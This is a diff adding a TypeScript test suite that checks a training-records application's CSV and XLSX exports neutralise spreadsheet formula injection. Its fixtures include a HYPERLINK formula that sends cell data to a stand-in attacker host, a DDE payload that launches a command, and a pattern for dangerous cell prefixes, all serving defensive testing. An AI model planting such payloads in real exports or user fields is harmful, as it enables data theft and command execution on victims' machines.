@@ -8,7 +8,7 @@ import { exportFile } from '../../src/proof/exports.js';
 import { translator } from '../../src/i18n/index.js';
 import * as people from '../../src/institutions/store.js';
 import { inTransaction } from '../../src/db/client.js';
-import { DAY, T0, credit, proofWorld, type World } from './fixtures.js';
+import { DAY, T0, addSession, credit, proofWorld, type World } from './fixtures.js';
 
 let w: World;
 let admin: string;
@@ -203,5 +203,59 @@ describe('the signed bundle for the programme office', () => {
     expect(aprilFacts.ok && (aprilFacts.facts as typeof facts).certificates[0]!.status).toBe('revoked');
     expect((await w.request('/office/proof', { cookie: officeCookie })).status).toBe(200);
     expect(people.listInstitutions(w.db)).toHaveLength(2);
+  });
+});
+
+describe('formula injection in the exports', () => {
+  // Issue 11 item 7: names and session titles are typed by people; a CSV cell starting with
+  // = + - @ (or a tab or carriage return) runs as a formula when a spreadsheet program opens it.
+  const EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
+  const EVIL_TITLE = '+cmd|" /C calc"!A0';
+
+  async function hostileWorld() {
+    const h = await proofWorld();
+    const evil = people.createUser(h.db, { email: 'evil@a.example', name: EVIL_NAME, role: 'trainee', institutionId: h.a.inst.id });
+    people.enrol(h.db, h.a.cohort.id, evil.id);
+    const plus = people.createUser(h.db, { email: 'plus@a.example', name: '@SUM(1+1)', role: 'trainee', institutionId: h.a.inst.id });
+    people.enrol(h.db, h.a.cohort.id, plus.id);
+    const s = addSession(h.db, h.a.cohort, 'faceToFace', T0 + 5 * DAY, 60, EVIL_TITLE);
+    credit(h.db, h.a.cohort, evil.id, 'faceToFace', 60, s.endsAt, s.id);
+    return { h, cookie: await h.login('admin@a.example') };
+  }
+
+  const get = (h: World, cookie: string, kind: string, format: string) =>
+    h.request(`/admin/cohorts/${h.a.cohort.id}/proof/export?kind=${kind}&format=${format}&${MARCH}`, { cookie });
+  const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell);
+
+  it('neutralises names and session titles in every CSV export (attendance and hours)', async () => {
+    const { h, cookie } = await hostileWorld();
+    for (const kind of ['attendance', 'hours']) {
+      const res = await get(h, cookie, kind, 'csv');
+      expect(res.status).toBe(200);
+      const rows: string[][] = parse(Buffer.from(await res.arrayBuffer()), { bom: true, relax_column_count: true });
+      const cells = rows.flat();
+      expect(cells).toContain(`'${EVIL_NAME}`);
+      expect(cells).toContain(`'@SUM(1+1)`);
+      expect(cells.filter(dangerous)).toEqual([]);
+      if (kind === 'attendance') expect(rows[0]!.some((c) => c.includes(EVIL_TITLE))).toBe(true);
+    }
+  });
+
+  it('writes names and session titles in every XLSX export as text cells, never as formulas', async () => {
+    const { h, cookie } = await hostileWorld();
+    for (const kind of ['attendance', 'hours']) {
+      const res = await get(h, cookie, kind, 'xlsx');
+      expect(res.status).toBe(200);
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(await res.arrayBuffer());
+      const sheet = book.worksheets[0]!;
+      const found: ExcelJS.Cell[] = [];
+      sheet.eachRow((row) => row.eachCell((cell) => {
+        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+        if (typeof cell.value === 'string' && (cell.value.includes('HYPERLINK') || cell.value.includes('cmd|'))) found.push(cell);
+      }));
+      expect(found.map((c) => c.type)).toContain(ExcelJS.ValueType.String);
+      expect(found.some((c) => c.value === EVIL_NAME)).toBe(true);
+    }
   });
 });
